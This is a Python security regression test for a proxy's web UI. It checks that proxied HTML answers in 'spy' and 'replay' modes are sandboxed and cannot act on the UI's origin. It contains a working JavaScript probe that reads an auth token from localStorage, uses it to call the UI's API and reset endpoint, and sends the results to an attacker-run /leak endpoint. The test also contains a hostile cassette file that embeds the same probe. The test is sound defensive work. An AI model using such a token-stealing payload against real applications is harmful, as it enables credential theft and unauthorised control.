"""An outside review's attack, in Chromium: a page on another port of 127.0.0.1 frames and opens a path
that `spy` (an upstream's HTML) or `replay` (a cassette's HTML) answers on the UI's origin, whose script
reads the page's token from localStorage and drives the UI's API. Failed before: the script ran as the
UI's origin, read the token and read the traffic (200) or rewound replay; now the answer is sandboxed
(`access.OUTSIDE_UI`): no script runs there, and a document opened from it has an opaque origin."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from aiohttp import web

from proxy.server.background import BackgroundServer
from tests.system.ui.conftest import Opened
from tests.system.ui.real_servers import RealServer

# What the hostile answer's script does with the UI's origin: read the token, use it, report to LEAK.
PROBE = """<html><body><script>
(async () => {
  const seen = {origin: String(location.origin)};
  try { seen.token = localStorage.getItem("commerce-proxy-token") || "none"; }
  catch (error) { seen.token = "refused " + error.name; }
  const headers = {"X-Commerce-Proxy-Token": seen.token};
  try { seen.api = String((await fetch("/_proxy/ui/api/info", {headers})).status); }
  catch (error) { seen.api = "failed"; }
  try { seen.reset = String((await fetch("/_proxy/reset", {method: "POST", headers})).status); }
  catch (error) { seen.reset = "failed"; }
  new Image().src = "LEAK?" + new URLSearchParams(seen);
})();
</script></body></html>"""
PATH = "/v2/help"
WAIT_SECONDS = 15.0  # at most, for the control's report and the opened page's load


def attacker(reports: list[dict[str, str]], where: dict[str, str]) -> BackgroundServer:
    """The other port: `/?target=URL` frames and opens URL; `/control` is the probe on its own origin;
    `/leak` keeps what a probe reports. It serves the probe as an upstream too (for `spy`). `where`
    holds its base URL once started."""

    async def page(request: web.Request) -> web.Response:
        target = json.dumps(request.query["target"])
        text = (
            f"<html><body><iframe src={target}></iframe><script>"
            f"window.open({target}, '_blank');</script></body></html>"
        )
        return web.Response(text=text, content_type="text/html")

    async def leak(request: web.Request) -> web.Response:
        reports.append(dict(request.query))
        return web.Response(status=204)

    async def control(request: web.Request) -> web.Response:
        return web.Response(text=PROBE.replace("LEAK", f"{where['base']}/leak"), content_type="text/html")

    def app() -> web.Application:
        application = web.Application()
        application.router.add_get("/", page)
        application.router.add_get("/leak", leak)
        application.router.add_get("/control", control)
        application.router.add_get(PATH, control)  # the upstream's HTML, for spy
        return application

    return BackgroundServer(app)


def hostile_cassette(folder: Path, leak_base: str) -> Path:
    """A cassette whose recorded answer to GET PATH is the probe, as HTML."""
    text = PROBE.replace("LEAK", f"{leak_base}/leak")
    cassette = folder / "hostile.yaml"
    cassette.write_text(
        "cassette_format: 2\nupstream: http://127.0.0.1:1\nexchanges:\n"
        "- recorded_at: '2025-01-01T00:00:00Z'\n  duration_ms: 1.0\n"
        f"  request:\n    method: GET\n    path: {PATH}\n    headers: {{}}\n"
        "  response:\n    status: 200\n    headers:\n      Content-Type: text/html\n"
        f"    text: {json.dumps(text)}\n"
    )
    return cassette


@pytest.mark.parametrize("command", ["spy", "replay"])
def test_a_page_on_another_port_cannot_act_as_the_ui_through_a_proxied_answer(
    command: str,
    tmp_path: Path,
    real_server: Callable[..., RealServer],
    open_page: Callable[..., Opened],
) -> None:
    reports: list[dict[str, str]] = []
    where: dict[str, str] = {}
    other = attacker(reports, where)
    try:
        base = where["base"] = other.start()
        if command == "spy":
            server = real_server("spy", "--upstream", base)
        else:
            server = real_server("replay", "--cassette", str(hostile_cassette(tmp_path, base)))
        opened = open_page(server.ui_url, wait_for="#info")  # the UI, its token in localStorage
        context = opened.page.context
        assert opened.page.evaluate("localStorage.getItem('commerce-proxy-token')") == server.token
        evil = context.new_page()
        with context.expect_page(timeout=WAIT_SECONDS * 1000) as popup:
            evil.goto(f"{base}/?target={server.base_url}{PATH}")
        popup.value.wait_for_load_state()
        control = context.new_page()
        control.goto(f"{base}/control")  # the same probe on its own origin: it runs and reports
        deadline = time.monotonic() + WAIT_SECONDS
        while not any(report["origin"] == base for report in reports) and time.monotonic() < deadline:
            control.wait_for_timeout(50)
        assert any(report["origin"] == base for report in reports), reports  # the probe runs here
        ours = [report for report in reports if report["origin"] != base]
        assert ours == [], ours  # nothing ran on the UI's origin: no token read, no API call
        assert popup.value.evaluate("window.origin") == "null"  # an opaque origin, not the UI's
    finally:
        other.stop()
